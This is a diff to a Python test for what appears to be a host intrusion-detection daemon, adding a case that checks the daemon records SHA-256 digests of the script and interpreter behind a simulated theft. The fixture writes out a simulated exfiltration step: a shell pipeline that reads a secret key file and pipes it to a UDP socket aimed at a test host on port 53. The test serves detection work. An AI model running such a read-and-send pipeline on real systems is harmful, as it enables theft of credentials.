@@ -1,8 +1,11 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""Which alerts are one incident, and that each is written at its own severity."""
+"""Which alerts are one incident, and that each is written at its own severity; and the digests of what ran."""
 
+import hashlib
 import os
+import re
+import shutil
 import sys
 
 sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))
@@ -58,12 +61,63 @@ def follow_up(s):
     require_equal([weak["severity"], theft["severity"], theft["incident"]], ["medium", "high", weak["id"]], "both")
 
 
+# Reads the file of its first argument, or sends what it is given.
+OPENER = b"import sys; print(open(sys.argv[1]).read())\n"
+SENDER = "import socket, sys; sys.stdin.read(); socket.socket(socket.AF_INET, socket.SOCK_DGRAM).connect(('%s', 53))"
+
+
+def digests(s):
+    """Of an opener that has ended: its script and executable, until they change, are replaced or removed."""
+    directory = os.fsdecode(s.home.path)
+    script, interpreter = f"{directory}/opener.py", f"{directory}/python3"
+    shutil.copy(sys.executable, interpreter)
+    with open(script, "wb") as f:
+        f.write(OPENER)
+
+    def steal():
+        seen, key = len(s.bw.alerts), s.home.key()[0]
+        s.net.run(["sh", "-c", '"$1" "$2" "$3" | "$4" -c "$5"', "sh", interpreter, script, key, sys.executable,
+                   SENDER % HOST_V4])
+        return s.bw.wait(lambda: next((a for a in s.bw.alerts[seen:] if harness.touches(a, key)), None),
+                         harness.ALERT_TIMEOUT, "the theft's alert")
+
+    def shown(alert):
+        found = ctl.objects("show", alert["id"])[0]["digests"]
+        return {d["kind"]: d["sha256"] or d["text"] for d in found if d["role"] == "opener"}
+
+    def digest(path):
+        with open(path, "rb") as f:
+            return hashlib.sha256(f.read()).hexdigest()
+
+    ctl, alert = Ctl(s.socket), steal()
+    [opened] = alert["files"]
+    require(opened["pid"] != alert["process"]["pid"], "the sender opened it")
+    require_equal((opened["exe"], opened["script"]), (interpreter, script), "what opened it")
+    got = shown(alert)
+    if re.match("on (btrfs|an overlay|a read-only)", got["script"]):
+        return
+    require_equal(got, {"executable": digest(interpreter), "script": digest(script)}, "digests")
+    require(f"opener's script {script}: SHA-256 {digest(script)}" in ctl.expect(0, "show", alert["id"])[0], "as text")
+    # Changed in place, it is another program, also of the next alert.
+    with open(script, "ab") as f:
+        f.write(b"# changed")
+    os.chmod(interpreter, 0o700)
+    changed = steal()
+    require_equal(shown(alert), {"executable": "changed since", "script": "changed since"}, "of what has changed")
+    require_equal(shown(changed), {"executable": digest(interpreter), "script": digest(script)}, "after the change")
+    shutil.copy(script, f"{directory}/new")
+    os.rename(f"{directory}/new", script)
+    os.unlink(interpreter)
+    require_equal(shown(changed), {"executable": "gone", "script": "gone: another file has its name"}, "in the end")
+
+
 def main():
     with cases() as (t, net, home):
         scene = Scene(net, home)
         with scene.bw:
             t.case("one harvester, and another thief", lines, scene)
             t.case("a theft after a weak alert", follow_up, scene)
+            t.case("digests of an opener", digests, scene)
             t.case("the daemon exits successfully", lambda: (scene.bw.stop(), scene.bw.require_no_loss()))
 
 
